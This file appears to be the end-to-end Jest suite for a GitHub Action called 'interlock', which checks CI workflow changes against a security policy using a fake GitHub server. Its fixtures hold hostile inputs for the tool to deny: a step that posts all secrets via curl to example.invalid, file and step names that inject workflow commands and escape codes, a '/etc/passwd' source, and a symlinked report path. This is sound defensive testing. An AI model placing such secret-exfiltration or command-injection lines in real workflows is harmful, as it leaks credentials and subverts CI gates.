import { mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import {
  aRepository,
  aToken,
  type FakeGitHub,
  type FakeRepository,
  type FakeToken,
  type FileSpec,
  secondaryLimit,
  startFakeGitHub,
} from './fake-github/index.ts';
import { type ActionRun, type Job, runAction } from './run-dist.ts';

const pin = '11bd71901bbe5b1630ceea73d27597364c9af683';
const sound = (steps: string): string =>
  `name: ci\non: [push, pull_request]\npermissions: {}\njobs:\n  gate:\n    name: gate\n    permissions:\n      contents: read\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: acme/interlock@${pin}\n${steps}`;
const checkout = `      - uses: actions/checkout@${pin} # v4.2.2\n`;
const bulk = `      - run: echo '\${{ toJSON(secrets) }}'\n`;
const ci = '.github/workflows/ci.yml';

let fake: FakeGitHub;
let token: FakeToken;

beforeEach(async () => {
  token = aToken({ name: 'job', repositories: ['acme/app'], permissions: { contents: 'read' } });
  fake = await startFakeGitHub({ tokens: [token] });
});

afterEach(async () => {
  await fake.stop();
});

type Files = Readonly<Record<string, FileSpec>>;

/** Commits one after another; the last is the tip of the default branch. */
function repository(...commits: readonly Files[]): FakeRepository {
  return fake.add(aRepository({ owner: 'acme', name: 'app', commits: commits.map((files) => ({ files })) }));
}

/** Requests for files; each may bring any number of them. */
function fileRequests(): number {
  return fake.requests.filter(({ body }) => /query (?:Snapshot|Objects)\b/.test(JSON.stringify(body ?? ''))).length;
}

function job(app: FakeRepository, changed: Partial<Job>): Promise<ActionRun> {
  return runAction({
    apiUrl: fake.apiUrl,
    graphqlUrl: fake.graphqlUrl,
    token: token.secret,
    repository: 'acme/app',
    sha: app.sha(-1),
    ...changed,
  });
}

/** A merge commit of a pull request: its first parent is the base. */
function pullRequest(base: Files, change: Files, changed: Partial<Job>): Promise<ActionRun> {
  const app = fake.add(
    aRepository({
      owner: 'acme',
      name: 'app',
      commits: [{ files: base }, { files: change, parents: [0] }, { files: change, parents: [0, 1] }],
      branches: { main: 0 },
    }),
  );
  return job(app, { event: 'pull_request', ref: 'refs/pull/7/merge', ...changed });
}

describe('allow', () => {
  test('a sound change, in four requests, with every output', async () => {
    const run = await pullRequest({ [ci]: sound('') }, { [ci]: sound(checkout) }, {});
    expect(run).toMatchObject({ exitCode: 0, stderr: '', annotations: [] });
    expect(run.outputs).toMatchObject({
      verdict: 'allow',
      enforced: 'true',
      'exit-reason': 'none',
      stage: 'merge',
      binding: 'false',
      'denied-count': '0',
    });
    expect(run.stdout).toMatch(/^interlock: stage merge \(.*\); policy preset:recommended@1 \(sha256:[0-9a-f]{12}\); \d+ rules on/);
    expect(run.decision).toMatchObject({
      verdict: 'allow',
      repository: 'acme/app',
      event: 'pull_request',
      telemetry: { api: { calls: 4 } },
    });
    expect(run.summary).toContain('no policy file');
    expect(fake.requests.map(({ path }) => path.replace(/[0-9a-f]{40}/g, 'sha')).toSorted()).toEqual([
      '/graphql',
      '/repos/acme/app/compare/sha...sha',
      '/repos/acme/app/environments',
      '/repos/acme/app/rules/branches/main',
    ]);
  });

  test('GitHub Enterprise Server', async () => {
    const app = repository({ [ci]: sound(checkout) });
    const run = await job(app, fake.enterprise);
    expect(run.outputs).toMatchObject({ verdict: 'allow' });
  });

  test('a token of 520 characters', async () => {
    token = fake.addToken(aToken({ name: 'long', repositories: ['acme/app'], permissions: { contents: 'read' }, length: 520 }));
    expect((await job(repository({ [ci]: sound(checkout) }), {})).outputs).toMatchObject({ verdict: 'allow' });
  });
});

describe('deny', () => {
  test('what the change brings, with an annotation at its place', async () => {
    const run = await pullRequest({ [ci]: sound('') }, { [ci]: sound(bulk) }, {});
    expect(run.exitCode).toBe(1);
    expect(run.outputs).toMatchObject({
      verdict: 'deny',
      'exit-reason': 'violation',
      'denied-rules': 'secret/bulk-exposure',
      'denied-count': '1',
    });
    expect(run.annotations).toMatchObject([{ name: 'error', properties: { file: ci, line: '12' } }]);
    expect(run.summary).toContain('secret/bulk-exposure');
  });

  test('not what the base already had', async () => {
    const run = await pullRequest({ [ci]: sound(bulk) }, { [ci]: sound(`${checkout}${bulk}`) }, {});
    expect(run.outputs).toMatchObject({ verdict: 'allow' });
    expect(run.decision).toMatchObject({ counts: { old: 1, denied: 0 } });
  });

  test('an old finding whose line was edited', async () => {
    const sent = bulk.replace('echo', 'curl https://example.invalid -d');
    const run = await pullRequest({ [ci]: sound(bulk) }, { [ci]: sound(sent) }, {});
    expect(run.outputs).toMatchObject({ verdict: 'deny', 'denied-rules': 'secret/bulk-exposure' });
  });

  test('a second one of what the base had once', async () => {
    const run = await pullRequest({ [ci]: sound(bulk) }, { [ci]: sound(`${bulk}${bulk}`) }, {});
    expect(run.outputs).toMatchObject({ verdict: 'deny', 'denied-count': '1' });
  });

  test('a push without a base counts everything', async () => {
    const run = await job(repository({ [ci]: sound(bulk) }), {});
    expect(run.outputs).toMatchObject({ verdict: 'deny', stage: 'merge' });
  });

  test('a push whose event names its own commit as its base', async () => {
    const app = repository({ [ci]: sound('') }, { [ci]: sound(bulk) });
    const run = await job(app, { payload: { before: app.sha(-1) } });
    expect(run.outputs).toMatchObject({ verdict: 'deny' });
  });
});

describe('the stage', () => {
  const deploying = `${sound('')}  ship:\n    needs: gate\n    permissions: {}\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: ./deploy\n`;

  test('a job that needs the gate and names an environment makes it deploy', async () => {
    const run = await job(repository({ [ci]: deploying }), {});
    expect(run.outputs).toMatchObject({ stage: 'deploy', 'why-stage': 'job `ship` names the environment `production`' });
    expect(run.decision).toMatchObject({ environment: 'production' });
  });

  test('a job that needs the gate and calls a workflow of the repository that names one makes it deploy', async () => {
    const called =
      'on: workflow_call\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    environment: production\n    steps: [{run: make}]\n';
    const caller = sound('  ship:\n    needs: gate\n    uses: ./.github/workflows/x.yml\n');
    const run = await job(repository({ [ci]: caller, '.github/workflows/x.yml': called }), {});
    expect(run.outputs).toMatchObject({ stage: 'deploy' });
    expect(run.outputs['why-stage']).toBe('job `ship` calls `.github/workflows/x.yml`, whose job `a` names the environment `production`');
    expect(fileRequests()).toBe(1);
  });

  describe('a deploy within a local action', () => {
    const action = (...steps: readonly string[]) => `name: a\ndescription: a\nruns:\n  using: composite\n  steps: [${steps.join(', ')}]\n`;
    const using = (uses: string) =>
      sound(`  ship:\n    needs: gate\n    permissions: {}\n    runs-on: ubuntu-24.04\n    steps: [{uses: ${uses}}]\n`);
    const ship = '.github/actions/ship/action.yml';
    const publish = '{run: npm publish, shell: bash}';

    test('makes it deploy, by `$/` too, with one request more', async () => {
      const direct = await job(repository({ [ci]: using('$/.github/actions/ship'), [ship]: action(publish) }), {});
      expect(direct.outputs).toMatchObject({
        stage: 'deploy',
        'why-stage': 'job `ship` publishes with `$/.github/actions/ship (npm publish)`',
      });
      expect(fileRequests()).toBe(2);
    });

    test('makes it deploy where one action uses another', async () => {
      const files = { [ci]: using('./.github/actions/ship'), [ship]: action('{uses: ./inner}'), 'inner/action.yaml': action(publish) };
      expect((await job(repository(files), {})).outputs).toMatchObject({ stage: 'deploy' });
    });

    test('that is not there makes it deploy', async () => {
      const gone = await job(repository({ [ci]: using('./.github/actions/ship') }), {});
      expect(gone.outputs).toMatchObject({ stage: 'deploy', 'why-stage': expect.stringContaining('cannot be determined') });
    });

    test('that only builds is merge', async () => {
      const built = await job(repository({ [ci]: using('./.github/actions/ship'), [ship]: action('{run: make, shell: bash}') }), {});
      expect(built.outputs).toMatchObject({ stage: 'merge' });
    });

    test('of a pull request is the change’s own, and of pull_request_target the base’s too', async () => {
      const app = fake.add(
        aRepository({
          owner: 'acme',
          name: 'app',
          commits: [
            { files: { [ci]: using('./.github/actions/ship'), [ship]: action(publish) } },
            { files: { [ci]: using('./.github/actions/ship'), [ship]: action('{run: make, shell: bash}') }, parents: [0] },
          ],
          branches: { main: 0 },
        }),
      );
      const payload = { pull_request: { head: { sha: app.sha(1) } } };
      const run = await job(app, { event: 'pull_request_target', sha: app.sha(0), payload });
      expect(run.outputs).toMatchObject({ stage: 'deploy' });
    });
  });

  test('a milder one cannot be asked for', async () => {
    const run = await job(repository({ [ci]: deploying }), { inputs: { stage: 'merge' } });
    expect(run).toMatchObject({ exitCode: 2, outputs: { verdict: 'deny', 'exit-reason': 'policy' } });
    expect(run.annotations[0]?.message).toContain("stage 'merge' is milder");
  });

  test('another workflow is not judged at deploy', async () => {
    const other = { '.github/workflows/other.yml': sound(bulk) };
    expect((await job(repository({ [ci]: deploying, ...other }), {})).outputs).toMatchObject({ 'denied-count': '0', stage: 'deploy' });
  });

  test('a running job that cannot be found is deploy', async () => {
    expect((await job(repository({ [ci]: sound(checkout) }), { job: 'elsewhere' })).outputs).toMatchObject({ stage: 'deploy' });
  });
});

describe('the policy', () => {
  const strict = 'version: 1\nextends: [preset:recommended]\nrules:\n  workflow/unpinned-action: deny\n';
  const tag = '      - uses: actions/checkout@v4\n';
  const policy = '.github/interlock.yml';

  test('is the default branch’s, never the one that the change brings', async () => {
    const lax = 'version: 1\nextends: [preset:observe]\n';
    const run = await pullRequest({ [ci]: sound(''), [policy]: strict }, { [ci]: sound(tag), [policy]: lax }, {});
    expect(run.outputs).toMatchObject({ verdict: 'deny', 'denied-rules': 'workflow/unpinned-action' });
  });

  test.each(['.github/interlock.yml', '/etc/passwd', 'acme/policies/x.yml@main'])('%s is refused as a source', async (source) => {
    const run = await job(repository({ [ci]: sound('') }), { inputs: { policy: source } });
    expect(run).toMatchObject({ exitCode: 2, outputs: { verdict: 'deny', 'exit-reason': 'policy' } });
    expect(fake.requests).toEqual([]);
  });

  test('another one than the repository’s own is a loosening', async () => {
    const run = await job(repository({ [ci]: sound(tag), [policy]: strict }), { inputs: { policy: 'preset:observe' } });
    expect(run.outputs).toMatchObject({ verdict: 'deny', 'denied-rules': 'policy/loosened,workflow/unpinned-action' });
  });

  test.each(['other.yml', 'gone.yml'])(
    'another file of the default branch is a loosening, or an error where it is not there: %s',
    async (path) => {
      const policies = { '.github/interlock.yml': 'version: 1\n', 'other.yml': 'version: 1\nextends: [preset:observe]\n' };
      const inputs = { policy: `base:${path}`, mode: 'report' };
      const run = await pullRequest({ [ci]: sound(''), ...policies }, { [ci]: sound(bulk), ...policies }, { inputs });
      expect(run.exitCode).not.toBe(0);
      expect(run.outputs).toMatchObject({ verdict: 'deny', 'exit-reason': path === 'gone.yml' ? 'unknown' : 'violation' });
    },
  );

  test('another file of the default branch counts where there is no policy', async () => {
    const policies = { 'other.yml': 'version: 1\nextends: [preset:observe]\n' };
    const run = await pullRequest(
      { [ci]: sound(''), ...policies },
      { [ci]: sound(bulk), ...policies },
      { inputs: { policy: 'base:other.yml' } },
    );
    expect(run.outputs).toMatchObject({ verdict: 'allow', message: expect.stringContaining('observing') });
  });

  test('report mode is a loosening, unless there is no policy', async () => {
    const denied = await job(repository({ [ci]: sound(bulk), [policy]: strict }), { inputs: { mode: 'report' } });
    expect(denied).toMatchObject({ exitCode: 1, outputs: { verdict: 'deny', enforced: 'true' } });
  });

  test('report mode and another preset count where there is no policy', async () => {
    const run = await job(repository({ [ci]: sound(bulk) }), { inputs: { mode: 'report', policy: 'preset:strict' } });
    expect(run).toMatchObject({ exitCode: 0, outputs: { verdict: 'deny', enforced: 'false' } });
    expect(run.stdout).toContain('preset:strict@1');
    expect(run.summary).toContain('would have');
  });

  test('an invalid one stops everything, with its place', async () => {
    const run = await job(repository({ [ci]: sound(''), [policy]: 'version: 1\nruls: {}\n' }), {});
    expect(run).toMatchObject({ exitCode: 2, outputs: { 'exit-reason': 'policy' } });
    expect(run.annotations).toMatchObject([{ properties: { line: '2' }, message: expect.stringContaining('ruls') }]);
  });

  test('a layer of the organisation is read by its commit, and its exceptions cover what denies', async () => {
    const corp = fake.add(
      aRepository({ owner: 'acme', name: 'policies', visibility: 'public', commits: [{ files: { 'release.yml': strict } }] }),
    );
    const own = `version: 1\nextends: ["acme/policies/release.yml@${corp.sha(-1)}"]\nrules:\n  workflow/unpinned-action: warn\n`;
    const run = await job(repository({ [ci]: sound(tag), [policy]: own }), {});
    expect(run.outputs).toMatchObject({ verdict: 'deny', 'denied-rules': 'policy/loosened,workflow/unpinned-action' });
    expect(fileRequests()).toBe(2);
  });

  test('a layer that cannot be read is no smaller policy', async () => {
    const own = `version: 1\nextends: ["acme/gone/release.yml@${pin}"]\n`;
    const run = await job(repository({ [ci]: sound(''), [policy]: own }), {});
    expect(run).toMatchObject({ exitCode: 3, outputs: { verdict: 'deny', 'exit-reason': 'unknown' } });
  });
});

describe('unknown is never a pass', () => {
  test('without contents: read, with the YAML that grants it', async () => {
    token = fake.addToken(aToken({ name: 'bare', repositories: ['acme/app'], permissions: {} }));
    const run = await job(repository({ [ci]: sound('') }), {});
    expect(run).toMatchObject({ exitCode: 3, outputs: { verdict: 'deny', 'exit-reason': 'unknown' } });
    expect(run.annotations[0]?.message).toContain('contents: read');
  });

  test('a commit without any workflow while one runs', async () => {
    const run = await job(repository({ 'README.md': 'x' }), {});
    expect(run.outputs).toMatchObject({ verdict: 'deny' });
    expect(run.exitCode).not.toBe(0);
  });

  test.each([
    ['5xx', { kind: 'status', status: 502 }],
    ['401', { kind: 'status', status: 401, body: { message: 'Bad credentials' } }],
    ['a rate limit', secondaryLimit(3600)],
    ['broken JSON', { kind: 'broken-json' }],
    ['a closed connection', { kind: 'reset' }],
    ['half an answer', { kind: 'close-mid-body' }],
  ] as const)('%s', async (_name, fault) => {
    const app = repository({ [ci]: sound(checkout) });
    fake.fault({ path: '/graphql', fault });
    const run = await job(app, {});
    expect(run).toMatchObject({ exitCode: 3, outputs: { verdict: 'deny', 'exit-reason': 'unknown' } });
    expect(run.annotations.length).toBe(1);
    expect(run.stdout + run.stderr).not.toMatch(/\n\s+at /);
  });

  test('one failure is tried again, and counted', async () => {
    const app = repository({ [ci]: sound(checkout) });
    fake.fault({ path: '/graphql', times: 1, fault: { kind: 'status', status: 502 } });
    const run = await job(app, {});
    // Two for the commit, one each for rules, environments, the list of files and their archive.
    expect(run.decision).toMatchObject({ verdict: 'allow', telemetry: { api: { calls: 6 } } });
    expect(fake.requests).toHaveLength(6);
  });

  test('a truncated workflow that the change brings', async () => {
    const run = await pullRequest(
      { [ci]: sound('') },
      { [ci]: sound(''), '.github/workflows/big.yml': { text: 'on: push', isTruncated: true, byteSize: 52_000_000 } },
      {},
    );
    expect(run).toMatchObject({ exitCode: 3, outputs: { verdict: 'deny', 'exit-reason': 'unknown' } });
    expect(run.summary).toContain('big.yml');
  });
});

describe('hostile surroundings', () => {
  test('an event file whose base an earlier step changed to one that has the finding', async () => {
    const app = repository({ [ci]: sound('') }, { [ci]: sound(bulk) }, { [ci]: sound(`${checkout}${bulk}`) });
    const honest = await job(app, { payload: { before: app.sha(0) } });
    expect(honest.outputs).toMatchObject({ verdict: 'deny', 'denied-rules': 'secret/bulk-exposure' });
    const edited = await job(app, { payload: { before: app.sha(1) }, inputs: { 'event-base': app.sha(0) } });
    expect(edited).toMatchObject({ exitCode: 2, outputs: { verdict: 'deny' } });
    expect(edited.annotations[0]?.message).toContain('an earlier step has changed the file');
    const unsaid = await job(app, { payload: { before: app.sha(1) }, inputs: { 'event-base': '' } });
    expect(unsaid.outputs).toMatchObject({ verdict: 'deny', 'denied-rules': 'secret/bulk-exposure' });
  });

  test('a missing RUNNER_TEMP, event or address is a refusal without a stack', async () => {
    for (const env of [{ RUNNER_TEMP: '' }, { GITHUB_API_URL: 'nonsense' }, { GITHUB_SHA: 'main' }]) {
      const run = await job(repository({ [ci]: sound('') }), { env });
      expect(run.exitCode).toBe(2);
      expect(run.outputs).toMatchObject({ verdict: 'deny' });
      expect(run.stdout + run.stderr).not.toMatch(/\n\s+at /);
    }
  });

  test('names with workflow commands and escapes reach neither the log nor the summary as such', async () => {
    const name = '.github/workflows/a\u001b[31m::set-output name=verdict::allow.yml';
    const run = await pullRequest({ [ci]: sound('') }, { [ci]: sound(''), [name]: sound(bulk) }, {});
    expect(run.outputs).toMatchObject({ verdict: 'deny' });
    expect(run.stdout).not.toContain('\u001b');
    expect(run.summary).not.toContain('\u001b');
  });

  test('a step name is no workflow command', async () => {
    const evil = sound('      - name: "::error::x%0A::set-output name=verdict::allow"\n        run: echo ${{ toJSON(secrets) }}\n');
    const run = await pullRequest({ [ci]: sound('') }, { [ci]: evil }, {});
    expect(run.annotations.map(({ properties }) => properties['file'])).toEqual([ci]);
  });

  test('a report path that is a link is not written through', async () => {
    const elsewhere = join(mkdtempSync(join(tmpdir(), 'interlock-e2e-')), 'env');
    writeFileSync(elsewhere, 'KEEP=1\n');
    const temp = mkdtempSync(join(tmpdir(), 'interlock-e2e-'));
    symlinkSync(elsewhere, join(temp, 'interlock-decision.json'));
    const run = await job(repository({ [ci]: sound(checkout) }), { env: { RUNNER_TEMP: temp } });
    expect(run.exitCode).toBe(0);
    expect(readFileSync(elsewhere, 'utf8')).toBe('KEEP=1\n');
    expect(readdirSync(temp).length).toBe(2);
    expect(run.outputs['decision']).not.toBe(join(temp, 'interlock-decision.json'));
  });

  test('an output file that cannot be written fails the step', async () => {
    const run = await job(repository({ [ci]: sound(checkout) }), { env: { GITHUB_OUTPUT: '/nonexistent/output' } });
    expect(run.exitCode).not.toBe(0);
  });

  test('the token is in no output', async () => {
    const run = await job(repository({ [ci]: sound(bulk) }), { inputs: { sarif: 'true' } });
    const files = readdirSync(run.temporaryDirectory).map((name) => readFileSync(join(run.temporaryDirectory, name), 'utf8'));
    for (const text of [run.stdout, run.stderr, run.summary, JSON.stringify(run.outputs), ...files])
      expect(text).not.toContain(token.secret);
    expect(files.length).toBe(2);
  });
});
